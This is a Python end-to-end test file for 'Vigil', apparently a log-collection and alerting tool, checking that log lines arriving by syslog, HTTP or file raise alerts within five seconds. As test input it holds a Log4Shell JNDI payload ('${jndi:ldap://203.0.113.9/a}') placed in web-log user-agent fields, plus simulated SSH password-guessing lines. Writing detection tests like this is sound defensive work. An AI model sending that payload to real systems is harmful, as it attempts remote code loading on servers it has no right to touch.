"""A newcomer points rsyslog at Vigil and sees an alert within five seconds; the same over HTTP, and from a file."""

import json
import socket
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from tests.journeys.conftest import Running, start, stop
from tests.postgresql import free_port
from tests.receiving import Rsyslog, until

pytestmark = [pytest.mark.journey, pytest.mark.timeout(240)]
WITHIN_S = 5
OWNER = "Cục Mẫu về An toàn thông tin (dữ liệu mẫu)"
GUESSED = "Dò mật khẩu qua SSH"  # Vigil's own rules, as they come with the program
EXPLOIT = "Dấu hiệu khai thác Log4Shell trong yêu cầu web"
LOG4SHELL = "${jndi:ldap://203.0.113.9/a}"
RULE = """
title: Someone knocks
id: 0b3f8d5e-77a1-4a53-9d04-3e1a5b1c2d3e
level: high
logsource: {product: linux}
tags: [attack.credential-access, attack.t1110]
detection:
  it: [knock-knock]
  condition: it
"""


@dataclass
class Detecting:
    running: Running
    syslog: int
    http: int
    logs: Path


@pytest.fixture(scope="module")
def detecting(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Detecting]:
    data, logs = tmp_path_factory.mktemp("detecting"), tmp_path_factory.mktemp("logs")
    syslog, http = free_port(), free_port()
    started, process = start(
        data, VIGIL_SYSLOG_PORT=str(syslog), VIGIL_EVENTS_HTTP_PORT=str(http), VIGIL_LOG_FOLDERS=str(logs),
        VIGIL_SPOOL_FREE_MB="1", VIGIL_DETECTORS="2",
    )  # fmt: skip
    try:
        rule = data / "knock.yml"
        rule.write_text(RULE)
        started.vigil("rules", "import", str(rule))
        yield Detecting(started, syslog, http, logs)
    finally:
        stop(process)


def test_from_a_log_line_to_a_closed_alert(detecting: Detecting, page, shot, sign_in, tmp_path: Path) -> None:
    url = detecting.running.url
    sign_in(detecting.running)
    page.goto(f"{url}/sources/new/")
    page.get_by_label("Tên", exact=True).fill("Cửa ngõ")
    page.get_by_label("Tên máy", exact=False).fill("gateway")
    page.get_by_role("button", name="Lưu").click()
    page.wait_for_load_state()
    snippet = next(text for text in page.locator("pre.snippet").all_inner_texts() if "omfwd" in text)
    assert f'port="{detecting.syslog}"' in snippet
    shot("source-new")
    rsyslog = Rsyslog(tmp_path, snippet)
    try:
        page.goto(f"{url}/alerts/")
        rsyslog.log("first words, so that everybody is awake")
        rsyslog.log("knock-knock, said 203.0.113.7")
        began = time.monotonic()
        row = page.locator(".alert-row", has_text="Someone knocks").first
        row.wait_for(timeout=20_000)
        took = time.monotonic() - began
        guesses = [f"Failed password for root from 198.51.100.9 port {50000 + n} ssh2" for n in range(12)]
        rsyslog.log(*guesses, tag="sshd[4242]")
        began = time.monotonic()
        page.locator(".alert-row", has_text=GUESSED).first.wait_for(timeout=20_000)
        shipped = time.monotonic() - began
        at = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
        rsyslog.log(f'198.51.100.9 - - [{at}] "GET / HTTP/1.1" 404 0 "-" "{LOG4SHELL}"', tag="nginx")
        page.locator(".alert-row", has_text=EXPLOIT).first.wait_for(timeout=5_000)
    finally:
        rsyslog.stop()
    print(f"\nfrom the log line to the board: {took:.1f} s; to an alert of Vigil's own rules: {shipped:.1f} s")
    assert took < WITHIN_S and shipped < WITHIN_S
    shot("alerts")
    shot("alerts", width=390)
    row.get_by_role("button", name="Nhận").click()
    page.locator(".alert-row", has_text="Someone knocks").first.get_by_role("link").first.click()
    page.get_by_label("Tấn công").check()
    page.get_by_placeholder("Đó là gì").fill("Đã chặn 203.0.113.7")
    shot("alert")
    shot("alert", width=390, theme="dark")
    page.get_by_role("button", name="Đóng").click()
    page.locator(".badge.bg-green-lt").first.wait_for()
    assert "Đã chặn 203.0.113.7" in page.inner_text("main")


def test_a_line_is_on_a_board_that_stands_open_within_five_seconds_and_closes_nothing(
    detecting: Detecting, page, shot, sign_in
) -> None:
    sign_in(detecting.running)
    page.goto(f"{detecting.running.url}/")
    waiting = page.locator("#rows a[href='/alerts/']").first

    def log(host: str) -> None:
        line = f"<13>1 {time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime())} {host} test - - - knock-knock".encode()
        with socket.create_connection(("127.0.0.1", detecting.syslog), 5) as there:
            there.sendall(b"%d %s" % (len(line), line))

    log("gateway-1")  # a board without sources says so; from now on there is one
    waiting.wait_for(timeout=20_000)
    words = page.locator("#rows details").first
    words.locator("summary").click()
    before, took = waiting.inner_text(), []
    for n in range(2, 5):
        began = time.monotonic()
        log(f"gateway-{n}")
        until(lambda b=before: waiting.inner_text() != b, within_s=20)
        took.append(time.monotonic() - began)
        before = waiting.inner_text()
        assert words.evaluate("one => one.open"), "what somebody reads is not closed under them"
    print(f"\nfrom the log line to a board that stands open: {max(took):.1f} s at the most")
    assert max(took) < WITHIN_S, took
    box = page.evaluate_handle("() => document.querySelector('#rows').appendChild(document.createElement('input'))")
    box.as_element().type("đang viết")
    log("gateway-5")
    page.wait_for_timeout(7_000)
    assert page.evaluate("() => document.activeElement.value") == "đang viết", "nothing is taken from under a hand"
    page.evaluate("() => document.activeElement.blur()")
    until(lambda: waiting.inner_text() != before, within_s=5)
    shot("board-alerts")


def test_over_http_and_from_a_file(detecting: Detecting, page, shot, sign_in) -> None:
    running = detecting.running
    path = detecting.logs / "app.log"
    made = [
        running.vigil(
            "sources", "add", "--name", name, "--organisation", OWNER, "--product", "linux", *more
        ).stdout.split()[0]
        for name, more in (("Qua HTTP", []), ("Tệp", ["--path", str(detecting.logs / "*.log"), "--format", "text"]))
    ]
    token = running.vigil("sources", "token", made[0]).stdout.split()[-1]
    at = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
    asked = f'198.51.100.9 - - [{at}] "GET / HTTP/1.1" 404 0 "-" "{LOG4SHELL}"'
    # as Filebeat sends the line of an access log, and as Splunk's collector is given those of sshd
    beat = {
        "message": asked,
        "host": {"name": "h2"},
        "agent": {"type": "filebeat"},
        "log": {"file": {"path": "/a.log"}},
    }
    sent = '{"create":{}}\n{"host":{"name":"h1"},"message":"knock-knock"}\n{"create":{}}\n' + json.dumps(beat) + "\n"
    stamp = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    guesses = "".join(
        f"{stamp} h3 sshd[7]: Failed password for root from 198.51.100.10 port {50000 + n} ssh2\n" for n in range(12)
    )
    raw = "/services/collector/raw?host=h3&sourcetype=linux_secure"
    for shown, path_, body, status in (
        (token, "/_bulk", sent, "200"), (token, raw, guesses, "200"), ("x" * 43, "/_bulk", sent, "401")
    ):  # fmt: skip
        said = subprocess.run(
            ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-H", f"Authorization: Bearer {shown}",
             "-H", "Content-Type: application/x-ndjson", "--data-binary", body, f"http://127.0.0.1:{detecting.http}{path_}"],
            capture_output=True, text=True, check=True, timeout=20,
        )  # fmt: skip
        assert said.stdout == status
    path.write_text("a line\nknock-knock in a file\nhalf a li")
    with path.open("a") as more:
        more.write("ne knock-knock\n")
    sign_in(running)
    page.goto(f"{running.url}/sources/")
    for name, events in (("Qua HTTP", 14), ("Tệp", 3)):
        row = page.locator("tr", has=page.get_by_role("link", name=name, exact=True))
        until(lambda row=row, events=events: _reloaded(page, row, str(events)), within_s=15)
    listeners = page.locator(".card", has_text="_bulk").inner_text()
    assert str(detecting.http) in listeners and "không có mã truy cập nào được biết" in page.content()
    shot("sources")
    shot("sources", width=390)
    wanted = {(EXPLOIT, "198.51.100.9"), (GUESSED, "198.51.100.10"), ("Someone knocks", "h1")}
    until(lambda: wanted <= _alerts(running), within_s=10)


def _alerts(running: Running) -> set[tuple[str, str]]:
    return {(one["title"], one["entity"]) for one in json.loads(running.vigil("alerts", "list", "--json").stdout)}


def _reloaded(page, row, events: str) -> bool:
    page.reload()
    return bool(row.count()) and events in row.inner_text().split()
